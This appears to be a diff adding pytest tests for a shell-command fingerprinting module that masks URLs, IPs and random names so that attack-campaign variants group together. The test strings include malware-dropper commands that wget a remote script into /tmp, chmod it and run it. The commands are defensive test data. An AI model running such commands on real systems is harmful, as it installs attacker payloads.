@@ -0,0 +1,52 @@
+import hashlib
+
+import pytest
+
+from command_fingerprint import (
+    COMMAND_TEXT_MAX_BYTES,
+    command_fingerprint,
+    fingerprint_key,
+    truncate_utf8,
+)
+
+
+@pytest.mark.parametrize(
+    "command, fingerprint",
+    [
+        ("uname -a", "uname -a"),
+        (None, ""),
+        ("cd /tmp;  wget http://1.2.3.4/bins.sh  ;sh bins.sh", "cd /tmp; wget <URL> ;sh bins.sh"),
+        ("echo 192.168.1.1:8080 >> f", "echo <IP> >> f"),
+        ("ping fe80:0:0:0:1:2:3:4", "ping <IP>"),
+        ("echo deadbeefdeadbeef1234", "echo <HEX>"),
+        ("cat /tmp/.x8f7a6sd", "cat /tmp/<RAND>"),
+    ],
+)
+def test_masking(command, fingerprint):
+    assert command_fingerprint(command) == fingerprint
+
+
+def test_campaign_variants_share_a_fingerprint():
+    first = "cd /tmp; wget http://198.51.100.1/a.sh; chmod +x .x8f7a6sd; ./.x8f7a6sd"
+    second = "cd /tmp; wget http://203.0.113.9/a.sh; chmod +x .k2j4h6g9; ./.k2j4h6g9"
+    assert command_fingerprint(first) == command_fingerprint(second)
+
+
+def test_commands_in_command_position_are_kept():
+    assert command_fingerprint("sha256sum x; md5sum y") == "sha256sum x; md5sum y"
+
+
+def test_truncate_utf8_never_splits_a_character():
+    assert truncate_utf8("aé" * 3, 4) == "aéa"
+    assert truncate_utf8("aé" * 3, 2) == "a"
+    assert truncate_utf8("short", 100) == "short"
+
+
+def test_fingerprint_fits_a_text_column():
+    fingerprint = command_fingerprint("é " * COMMAND_TEXT_MAX_BYTES)
+    assert len(fingerprint.encode("utf-8")) <= COMMAND_TEXT_MAX_BYTES
+
+
+def test_fingerprint_key_matches_sql_sha1():
+    assert fingerprint_key("wget <URL>") == hashlib.sha1(b"wget <URL>").hexdigest()
+    assert fingerprint_key("é") == hashlib.sha1("é".encode("utf-8")).hexdigest()